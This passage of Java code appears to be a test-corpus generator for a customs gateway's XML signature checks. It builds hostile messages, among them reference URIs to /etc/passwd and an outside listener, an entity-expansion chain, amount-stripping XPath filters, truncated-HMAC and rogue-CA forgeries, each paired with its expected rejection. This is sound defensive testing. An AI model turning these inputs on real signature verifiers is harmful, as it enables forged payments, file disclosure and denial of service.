            + "<xsl:template match=\"/\"><xsl:call-template name=\"loop\"/></xsl:template></xsl:stylesheet></ds:Transform>");
    transform("transforms/xpath-filter-excludes-amount.xml", "SWG-SEC-004", 403,
        "an XPath filter that leaves totalAmount out of the digest",
        "<ds:Transform Algorithm=\"" + XPATH + "\"><ds:XPath>not(ancestor-or-self::*[local-name()='totalAmount'])</ds:XPath></ds:Transform>");
    transform("transforms/xpath-filter-expensive.xml", "SWG-SEC-004", 403,
        "an XPath filter with a quadratic expression over every node",
        "<ds:Transform Algorithm=\"" + XPATH + "\"><ds:XPath>count(//. | //@* | //namespace::*) &gt; 0</ds:XPath></ds:Transform>");
    transform("transforms/xpath2-filter-subtract.xml", "SWG-SEC-004", 403,
        "an XPath Filter 2.0 subtract of the business document",
        "<ds:Transform Algorithm=\"" + XPATH2 + "\"><dsig-xpath:XPath xmlns:dsig-xpath=\"" + XPATH2
            + "\" Filter=\"subtract\">//*[local-name()='TaxPaymentNotice']</dsig-xpath:XPath></ds:Transform>");
    transform("transforms/base64-transform.xml", "SWG-SEC-004", 403, "a base64 decoding transform",
        "<ds:Transform Algorithm=\"" + BASE64 + "\"/>");
    transform("transforms/enveloped-signature-on-body.xml", "SWG-SEC-004", 403,
        "an enveloped-signature transform on the Body reference", "<ds:Transform Algorithm=\"" + ENVELOPED + "\"/>");
    transform("transforms/c14n-with-comments.xml", "SWG-SEC-004", 403,
        "exclusive C14N with comments as the reference transform", "<ds:Transform Algorithm=\"" + EXC_C14N_COMMENTS + "\"/>");
    transform("transforms/unknown-transform.xml", "SWG-SEC-004", 403, "a transform URI no one implements",
        "<ds:Transform Algorithm=\"" + LISTENER + "/transform\"/>");
    externalReference("transforms/external-http-reference.xml", LISTENER + "/reference",
        "a third reference whose URI is the listener");
    externalReference("transforms/external-file-reference.xml", "file:///etc/passwd", "a third reference to /etc/passwd");
    externalReference("transforms/external-relative-reference.xml", "../../../../etc/passwd",
        "a third reference by relative path");
    edited("transforms/retrieval-method-http.xml",
        "<ds:X509Data>", "<ds:RetrievalMethod URI=\"" + LISTENER + "/cert\" Type=\"http://www.w3.org/2000/09/xmldsig#rawX509Certificate\"/><ds:X509Data>",
        "SWG-SEC-009", 403, "a KeyInfo RetrievalMethod pointing at the listener");
    edited("transforms/signed-info-c14n-with-comments.xml",
        "<ds:CanonicalizationMethod Algorithm=\"" + SignatureProfile.EXC_C14N + "\"",
            "<ds:CanonicalizationMethod Algorithm=\"" + EXC_C14N_COMMENTS + "\"",
        "SWG-SEC-004", 403, "SignedInfo canonicalised with comments");
    edited("transforms/signed-info-xslt-c14n.xml",
        "<ds:CanonicalizationMethod Algorithm=\"" + SignatureProfile.EXC_C14N + "\"/>",
            "<ds:CanonicalizationMethod Algorithm=\"" + XSLT + "\"/>",
        "SWG-SEC-004", 403, "an XSLT URI as the SignedInfo canonicalisation method");
  }

  // ---------------------------------------------------------------------------------------------

  private void algorithms() throws Exception {
    algorithm("algorithms/rsa-sha1.xml", SignatureProfile.RSA_SHA1, SignatureProfile.SHA256, "rsa-sha1 SignatureMethod");
    algorithm("algorithms/sha1-digest.xml", null, SignatureProfile.SHA1, "sha1 DigestMethod on both references");
    algorithm("algorithms/rsa-sha1-and-sha1-digest.xml", SignatureProfile.RSA_SHA1, SignatureProfile.SHA1,
        "rsa-sha1 with sha1 digests: the old default");
    writeText("algorithms/md5-digest.xml", signedNoticeXml("algorithms/md5-digest.xml").replace("Algorithm=\"" + SignatureProfile.SHA256 + "\"", "Algorithm=\"" + MD5 + "\""),
        "SWG-SEC-004", 403, "md5 DigestMethod (written over a sha256 signature: refused before anything is computed)");
    writeText("algorithms/rsa-md5.xml", signedNoticeXml("algorithms/rsa-md5.xml").replace("Algorithm=\"" + SignatureProfile.RSA_SHA256 + "\"", "Algorithm=\"" + RSA_MD5 + "\""),
        "SWG-SEC-004", 403, "rsa-md5 SignatureMethod");
    writeText("algorithms/unknown-signature-method.xml",
        signedNoticeXml("algorithms/unknown-signature-method.xml").replace("Algorithm=\"" + SignatureProfile.RSA_SHA256 + "\"", "Algorithm=\"urn:attacker:none\""),
        "SWG-SEC-004", 403, "a SignatureMethod URI of no algorithm (alg=none)");
    hmac("algorithms/hmac-sha256.xml", HMAC_SHA256, null, "hmac-sha256 keyed with a shared secret: no sender key at all");
    hmac("algorithms/hmac-sha1-output-length-80.xml", HMAC_SHA1, 80,
        "hmac-sha1 with HMACOutputLength 80 (CVE-2009-0217)");
    hmac("algorithms/hmac-sha256-output-length-0.xml", HMAC_SHA256, 0, "hmac-sha256 with HMACOutputLength 0");
    TestPki.Ca weakCa = TestPki.rootCa("CN=Corpus Weak CA");
    keyed("algorithms/rsa-1024.xml", weakCa.issue("CN=Vietcombank, OU=01203001", TestPki.rsa(1024)), null,
        "an RSA-1024 key (certificate from a test CA)");
    keyed("algorithms/rsa-512.xml", weakCa.issue("CN=Vietcombank, OU=01203001", TestPki.rsa(512)), null, "an RSA-512 key");
    keyed("algorithms/dsa-sha256.xml", weakCa.issue("CN=Vietcombank, OU=01203001", dsa(2048)), DSA_SHA256, "a DSA-2048 key, dsa-sha256");
    keyed("algorithms/dsa-sha1.xml", weakCa.issue("CN=Vietcombank, OU=01203001", dsa(1024)), DSA_SHA1, "a DSA-1024 key, dsa-sha1");
    keyed("algorithms/ecdsa-sha1.xml", weakCa.issue("CN=Vietcombank, OU=01203001", TestPki.ec("secp256r1")), ECDSA_SHA1,
        "a P-256 key with ecdsa-sha1");
  }

  // ---------------------------------------------------------------------------------------------

  private void keyConfusion() throws Exception {
    String keyValue = "<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>"
        + java.util.Base64.getEncoder().encodeToString(((java.security.interfaces.RSAPublicKey) VCB.certificate().getPublicKey()).getModulus().toByteArray())
        + "</ds:Modulus><ds:Exponent>AQAB</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>";
    edited("key-confusion/key-value-only.xml",
        "(?s)<ds:X509Data>.*</ds:X509Data>", keyValue, "SWG-SEC-009", 403,
        "KeyInfo with the signer's bare RSAKeyValue and no certificate");
    edited("key-confusion/key-value-and-certificate.xml",
        "<ds:X509Data>", keyValue + "<ds:X509Data>", "SWG-SEC-009", 403,
        "an RSAKeyValue next to the X509Data");
    edited("key-confusion/key-name-only.xml",
        "(?s)<ds:X509Data>.*</ds:X509Data>", "<ds:KeyName>vcb</ds:KeyName>", "SWG-SEC-009", 403,
        "KeyInfo naming the key, no certificate");
    edited("key-confusion/no-key-info.xml", "(?s)<ds:KeyInfo>.*</ds:KeyInfo>", "", "SWG-SEC-009", 403,
        "no KeyInfo at all");
    Document other = notice("key-confusion/certificate-not-the-signing-key");
    TestMessages.sign(other, VCB.key(), BIDV.chain());
    signed("key-confusion/certificate-not-the-signing-key.xml", other, "SWG-SEC-002", 403,
        "signed with vcb's key, KeyInfo carries bidv's certificate");
    Document two = notice("key-confusion/two-leaf-certificates");
    TestMessages.sign(two, VCB.key(), List.of(VCB.certificate(), BIDV.certificate()));
    signed("key-confusion/two-leaf-certificates.xml", two, "SWG-SEC-009", 403,
        "two leaf certificates (vcb and bidv) in X509Data");
    Document reversed = notice("key-confusion/attacker-certificate-first");
    TestMessages.sign(reversed, VCB.key(), List.of(BIDV.certificate(), VCB.certificate()));
    signed("key-confusion/attacker-certificate-first.xml", reversed, "SWG-SEC-009", 403,
        "bidv's certificate first, the real signer's second");
    TestPki.Ca rogue = TestPki.rootCa(VCB.chain().get(VCB.chain().size() - 1).getIssuerX500Principal().getName());
    TestPki.Issued impostor = rogue.issue(VCB.certificate().getSubjectX500Principal().getName(), TestPki.rsa(2048));
    Document impostorDoc = notice("key-confusion/impostor-with-same-subject");
    TestMessages.sign(impostorDoc, impostor.keyPair().getPrivate(), List.of(impostor.certificate()));
    signed("key-confusion/impostor-with-same-subject.xml", impostorDoc, "SWG-SEC-005", 403,
        "a certificate with vcb's exact subject from a rogue CA with the real CA's name");
    Document selfSigned = notice("key-confusion/self-signed-certificate");
    TestPki.Ca self = TestPki.rootCa(VCB.certificate().getSubjectX500Principal().getName());
    TestMessages.sign(selfSigned, self.keyPair().getPrivate(), List.of(self.certificate()));
    signed("key-confusion/self-signed-certificate.xml", selfSigned, "SWG-SEC-009", 403,
        "a self-signed certificate with vcb's subject");
    Document revoked = notice("key-confusion/revoked-certificate");
    TestMessages.sign(revoked, VCB_REVOKED);
    signed("key-confusion/revoked-certificate.xml", revoked, "SWG-SEC-007", 403,
        "signed by vcb-revoked, whose certificate is on the dev CRL");
    edited("key-confusion/issuer-serial-only.xml",
        "<ds:X509Certificate>[^<]*</ds:X509Certificate>",
            "<ds:X509IssuerSerial><ds:X509IssuerName>" + VCB.certificate().getIssuerX500Principal().getName()
                + "</ds:X509IssuerName><ds:X509SerialNumber>" + VCB.certificate().getSerialNumber()
                + "</ds:X509SerialNumber></ds:X509IssuerSerial>",
        "SWG-SEC-009", 403, "X509Data naming vcb's certificate by issuer and serial, without the certificate");
  }

  // ---------------------------------------------------------------------------------------------

  private void spoofing() throws Exception {
    spoof("spoofing/vcb-signs-as-bidv.xml", VCB, "BANK", "01202001", "SWG-SEC-009", "signed by vcb, From bidv");
    spoof("spoofing/bidv-signs-as-vcb.xml", BIDV, "BANK", "01203001", "SWG-SEC-009", "signed by bidv, From vcb");
    spoof("spoofing/moit-signs-as-vcb.xml", MOIT, "BANK", "01203001", "SWG-SEC-005",
        "signed by the ministry moit, From vcb: moit's certificate does not chain to vcb's trust anchor");
    spoof("spoofing/asw-signs-as-vcb.xml", ASW, "BANK", "01203001", "SWG-SEC-005",
        "signed by the ASW, From vcb: the ASW's certificate does not chain to vcb's trust anchor");
    spoof("spoofing/vcb-signs-as-customs.xml", VCB, "CUSTOMS", "TCHQ", "SWG-SEC-009", "signed by vcb, From the customs identity TCHQ");
    spoof("spoofing/vcb-signs-as-unknown.xml", VCB, "BANK", "99999999", "SWG-SEC-009", "signed by vcb, From an identity no partner has");
    spoof("spoofing/vcb-signs-as-bidv-identity-with-spaces.xml", VCB, "BANK", " 01202001 ", "SWG-ENV-002",
        "signed by vcb, From bidv's identity padded with spaces");
  }

  // ---------------------------------------------------------------------------------------------

  private void gatewayOnly() throws Exception {
    String routing = "<swg:Routing><swg:gatewayId>swg-node-1</swg:gatewayId><swg:receivedAt>2026-11-22T17:00:00.000+07:00</swg:receivedAt>"
        + "<swg:channel>HTTP</swg:channel><swg:partner>bidv</swg:partner><swg:destination>customs.payments.in</swg:destination></swg:Routing>";
    edited("gateway-only/routing-block.xml", "<swg:Signatures>", routing + "<swg:Signatures>",
        "SWG-ENV-007", 400, "a Routing block naming another partner, where the gateway puts its own");
    edited("gateway-only/system-signature.xml", "</swg:Signatures>",
            "<swg:SystemSignature><ds:Signature xmlns:ds=\"" + DS + "\"/></swg:SystemSignature></swg:Signatures>",
        "SWG-ENV-007", 400, "a SystemSignature next to the sender's");
    edited("gateway-only/routing-in-business-document.xml", "</tpn:TaxPaymentNotice>", routing + "</tpn:TaxPaymentNotice>",
        "SWG-ENV-007", 400, "a Routing block hidden in the business document");
    edited("gateway-only/routing-in-object.xml", "</ds:Signature>", "<ds:Object>" + routing + "</ds:Object></ds:Signature>",
        "SWG-ENV-007", 400, "a Routing block inside a ds:Object of the sender signature");
    Document signedRouting = notice("gateway-only/routing-signed-in-body");
    TestMessages.bodyDocument(signedRouting).appendChild(signedRouting.importNode(parse(
        routing.replaceFirst("<swg:Routing>", "<swg:Routing xmlns:swg=\"" + NS + "\">")).getDocumentElement(), true));
    signedBy("gateway-only/routing-signed-in-body.xml", signedRouting, VCB, "SWG-ENV-007", 400,
        "a Routing block inside the business document, signed by the partner");
  }

  // =============================================================================================
  // builders

  /** The TAX_PAYMENT_NOTICE example from vcb at {@link #SENT_AT}, its messageId derived from the case. */
  static Document notice(String caseName) {
    Document document = TestMessages.fresh("TAX_PAYMENT_NOTICE");
    TestMessages.set(document, "messageId", "01203001" + hex32(caseName));
    TestMessages.set(document, "sentAt", SENT_AT);
    return document;
  }

  private static String hex32(String text) {
    try {
      byte[] digest = MessageDigest.getInstance("SHA-256").digest(text.getBytes(UTF_8));
      return HexFormat.of().formatHex(digest, 0, 16).toUpperCase(Locale.ROOT);
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  private static String signedNoticeXml(String caseName) {
    Document document = notice(caseName);
    TestMessages.sign(document, VCB);
    return new String(XmlOutput.toBytes(document), UTF_8);
  }

  private void signedBy(String file, Document document, DevPartner partner, String expected, int status, String description) {
    TestMessages.sign(document, partner);
    signed(file, document, expected, status, description);
  }

  private void signed(String file, Document document, String expected, int status, String description) {
    writeBytes(file, XmlOutput.toBytes(document), expected, status, description);
  }

  private static Element attackerBody(Document document, String id) {
    Element body = (Element) first(document, "Body").cloneNode(true);
    body.removeAttributeNS(null, "Id");
    if (id != null) {
      body.setAttributeNS(null, "Id", id);
    }
    ((Element) body.getElementsByTagNameNS("*", "totalAmount").item(0)).setTextContent("1");
    return body;
  }

  private static Element object(Document document) {
    Element signature = (Element) document.getElementsByTagNameNS(DS, "Signature").item(0);
    Element object = document.createElementNS(DS, "ds:Object");
    signature.appendChild(object);
    return object;
  }

  private static Element firstElementChild(Element parent) {
    for (Node n = parent.getFirstChild(); n != null; n = n.getNextSibling()) {
      if (n instanceof Element element) {
        return element;
      }
    }
    throw new IllegalStateException("no element child");
  }

  /** A validly signed message, then moved about by {@code attack}. */
  private void wrap(String file, String expected, int status, String description, Consumer<Document> attack) {
    Document document = notice(file);
    TestMessages.sign(document, VCB);
    attack.accept(document);
    signed(file, document, expected, status, description);
  }

  /** A validly signed message, serialised, then edited as text. */
  private void wrapText(String file, String expected, int status, String description,
      java.util.function.UnaryOperator<String> attack) {
    writeText(file, attack.apply(signedNoticeXml(file)), expected, status, description);
  }

  /**
   * A genuine signature by vcb with exactly these reference URIs, each with the profile's single
   * exclusive C14N transform, in the SenderSignature slot.
   */
  private void wrapReferences(String file, String expected, int status, String description, String... uris)
      throws Exception {
    Document document = notice(file);
    first(document, "Header").setIdAttributeNS(null, "Id", true);
    first(document, "Body").setIdAttributeNS(null, "Id", true);
    Element slot = senderSignatureSlot(document);
    XMLSignature signature = new XMLSignature(document, "", SignatureProfile.RSA_SHA256, SignatureProfile.EXC_C14N);
    slot.appendChild(signature.getElement());
    signature.setId("sender-signature");
    signature.getElement().setIdAttributeNS(null, "Id", true);
    for (String uri : uris) {
      Transforms transforms = new Transforms(document);
      transforms.addTransform(SignatureProfile.EXC_C14N);
      signature.addDocument(uri, transforms, SignatureProfile.SHA256);
    }
    addCertificates(document, signature, VCB.chain());
    signature.sign(VCB.key());
    signed(file, document, expected, status, description);
  }

  private static Element senderSignatureSlot(Document document) {
    Element signatures = document.createElementNS(NS, "swg:Signatures");
    Element slot = document.createElementNS(NS, "swg:SenderSignature");
    signatures.appendChild(slot);
    document.getDocumentElement().appendChild(signatures);
    return slot;
  }

  private static void addCertificates(Document document, XMLSignature signature, List<X509Certificate> chain)
      throws Exception {
    X509Data data = new X509Data(document);
    for (X509Certificate certificate : chain) {
      data.addCertificate(certificate);
    }
    signature.getKeyInfo().add(data);
  }

  /** A validly signed message, then its first match of {@code regex} replaced as text. */
  private void edited(String file, String regex, String replacement, String expected, int status, String description) {
    writeText(file, signedNoticeXml(file).replaceFirst(regex, replacement), expected, status, description);
  }

  /** A DOCTYPE before the root of a signed message, and optionally a reference in the remarks. */
  private void doctype(String file, String doctype, String reference, String description) {
    String xml = signedNoticeXml(file).replaceFirst("<swg:Envelope ", java.util.regex.Matcher.quoteReplacement(doctype) + "\n<swg:Envelope ");
    if (reference != null) {
      xml = xml.replaceFirst("<tpn:remarks>", "<tpn:remarks>" + java.util.regex.Matcher.quoteReplacement(reference));
    }
    writeText(file, xml, "SWG-ENV-001", 400, description);
  }

  /**
   * Nesting in the remarks: signed into the document when shallow enough for the DOM to sign, else
   * written into the signed text (the parser's depth limit comes before any digest).
   */
  /**
   * Ten levels of entities {@code name}0..10, each referencing the one below ten times;
   * {@code kind} is "" for general entities, "% " for parameter entities, {@code ref} how a
   * reference to one starts inside a declaration ("&" or "&#37;").
   */
  private static String entityChain(String kind, String name, String ref) {
    StringBuilder chain = new StringBuilder("<!ENTITY " + kind + name + "0 \"lol\">");
    for (int i = 1; i <= 10; i++) {
      chain.append("<!ENTITY ").append(kind).append(name).append(i).append(" \"")
          .append((ref + name + (i - 1) + ";").repeat(10)).append("\">");
    }
    return chain.toString();
  }

  private void nested(String file, int depth, boolean unclosed, String expected, int status, String description) {
    if (depth <= 100) {
      Document document = notice(file);
      Element parent = (Element) TestMessages.bodyDocument(document).getElementsByTagNameNS("*", "remarks").item(0);
      for (int i = 0; i < depth; i++) {
        Element child = document.createElementNS("urn:vn:customs:swg:tax-payment-notice:1", "tpn:n");
        parent.appendChild(child);
        parent = child;
      }
      signedBy(file, document, VCB, expected, status, description);
      return;
    }
    String nested = "<tpn:n>".repeat(depth) + (unclosed ? "" : "</tpn:n>".repeat(depth));
    writeText(file, signedNoticeXml(file).replaceFirst("<tpn:remarks>", "<tpn:remarks>" + nested), expected, status, description);
  }

  /** A validly signed message whose Body reference then gets {@code transformXml} before its exclusive C14N. */
  private void transform(String file, String expected, int status, String description, String transformXml) {
    String xml = signedNoticeXml(file);
    int body = xml.indexOf("URI=\"#body\"");
    int transforms = xml.indexOf("<ds:Transforms>", body) + "<ds:Transforms>".length();
    writeText(file, xml.substring(0, transforms) + transformXml + xml.substring(transforms), expected, status, description);
  }

  private void externalReference(String file, String uri, String description) {
    String xml = signedNoticeXml(file);
    String reference = "<ds:Reference URI=\"" + uri + "\"><ds:Transforms><ds:Transform Algorithm=\""
        + SignatureProfile.EXC_C14N + "\"/></ds:Transforms><ds:DigestMethod Algorithm=\"" + SignatureProfile.SHA256
        + "\"/><ds:DigestValue>AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=</ds:DigestValue></ds:Reference>";
    writeText(file, xml.replaceFirst("</ds:SignedInfo>", java.util.regex.Matcher.quoteReplacement(reference) + "</ds:SignedInfo>"),
        "SWG-SEC-003", 403, description);
  }

  private void algorithm(String file, String signatureMethod, String digestMethod, String description) {
    Document document = notice(file);
    new SenderSigner(signatureMethod, digestMethod).sign(document, VCB.key(), VCB.chain());
    signed(file, document, "SWG-SEC-004", 403, description);
  }

  /** An HMAC "signature" by a secret key, optionally truncated, with vcb's certificate in KeyInfo. */
  private void hmac(String file, String method, Integer outputLength, String description) throws Exception {
    Document document = notice(file);
    first(document, "Header").setIdAttributeNS(null, "Id", true);
    first(document, "Body").setIdAttributeNS(null, "Id", true);
    Element slot = senderSignatureSlot(document);
    XMLSignature signature = new XMLSignature(document, "", method, SignatureProfile.EXC_C14N);
    slot.appendChild(signature.getElement());
    signature.setId("sender-signature");
    for (String uri : List.of("#header", "#body")) {
      Transforms transforms = new Transforms(document);
      transforms.addTransform(SignatureProfile.EXC_C14N);
      signature.addDocument(uri, transforms, SignatureProfile.SHA256);
    }
    addCertificates(document, signature, VCB.chain());
    signature.sign(new SecretKeySpec("corpus-shared-secret-0123456789ab".getBytes(UTF_8), "HmacSHA256"));
    String xml = new String(XmlOutput.toBytes(document), UTF_8);
    if (outputLength != null) {
      // Santuario refuses to produce a truncated HMAC, which is the point: the element is added
      // afterwards as CVE-2009-0217's attacker did.
      xml = xml.replaceFirst("(<ds:SignatureMethod Algorithm=\"[^\"]*\")/>",
          "$1><ds:HMACOutputLength>" + outputLength + "</ds:HMACOutputLength></ds:SignatureMethod>");
      xml = xml.replaceFirst("<ds:SignatureValue>[^<]*</ds:SignatureValue>", "<ds:SignatureValue>AAAAAAAAAAAAAA==</ds:SignatureValue>");
    }
    writeText(file, xml, "SWG-SEC-004", 403, description);
  }

  /** Signed by a key of a test CA with the given method (null: the profile's default for the key type). */
  private void keyed(String file, TestPki.Issued signer, String method, String description) {
    Document document = notice(file);
    PrivateKey key = signer.keyPair().getPrivate();
    String signatureMethod = method != null ? method
        : key.getAlgorithm().equals("EC") ? SignatureProfile.ECDSA_SHA256 : SignatureProfile.RSA_SHA256;
    new SenderSigner(signatureMethod, SignatureProfile.SHA256).sign(document, key, List.of(signer.certificate()));
    signed(file, document, "SWG-SEC-004", 403, description);
  }

  private static KeyPair dsa(int bits) {
    try {
      KeyPairGenerator generator = KeyPairGenerator.getInstance("DSA");
      generator.initialize(bits);
      return generator.generateKeyPair();
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  private void spoof(String file, DevPartner signer, String partyType, String identity, String expected,
      String description) {
    Document document = notice(file);
    TestMessages.setParty(document, "From", "partyType", partyType);
    TestMessages.setParty(document, "From", "identity", identity);
    signedBy(file, document, signer, expected, expected.startsWith("SWG-ENV") ? 400 : 403, description);
  }

  private static Document parse(String xml) {
    try {
      javax.xml.parsers.DocumentBuilderFactory factory = javax.xml.parsers.DocumentBuilderFactory.newInstance();
      factory.setNamespaceAware(true);
      return factory.newDocumentBuilder().parse(new java.io.ByteArrayInputStream(xml.getBytes(UTF_8)));
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  // ---------------------------------------------------------------------------------------------
  // output

  private void writeText(String file, String xml, String expected, int status, String description) {
    writeBytes(file, xml.getBytes(UTF_8), expected, status, description);
  }

  private void writeBytes(String file, byte[] bytes, String expected, int status, String description) {
    try {
      Path target = root.resolve(file);
      Files.createDirectories(target.getParent());
      Files.write(target, bytes);
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
    cases.removeIf(c -> c.file().equals(file));
    cases.add(new CorpusCase(file, expected, status, description));
  }

  private void writeManifest() throws IOException {
    List<String> lines = new ArrayList<>();
    lines.add("# Written by vn.customs.swg.corpus.CorpusWriter; see README.md. file, expected, HTTP status, description."
        + " #FINDING lines: cases the gateway answers wrongly today, left out of the run until fixed.");
    for (CorpusCase c : cases) {
      String finding = FINDINGS.get(c.file());
      lines.add(finding == null ? c.line() : "#FINDING\t" + c.line() + "\tTODAY: " + finding);
    }
    Files.write(root.resolve("manifest.tsv"), lines, UTF_8);
  }

  private static byte[] concat(byte[] a, byte[] b) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(a);
    out.writeBytes(b);
    return out.toByteArray();
  }

  private static byte[] replaceFirst(byte[] data, byte[] find, byte[] replacement) {
    String latin = new String(data, java.nio.charset.StandardCharsets.ISO_8859_1);
    int at = latin.indexOf(new String(find, java.nio.charset.StandardCharsets.ISO_8859_1));
    if (at < 0) {
      throw new IllegalStateException("marker not found");
    }
    return concat(concat(java.util.Arrays.copyOf(data, at), replacement), java.util.Arrays.copyOfRange(data, at + find.length, data.length));
  }
}
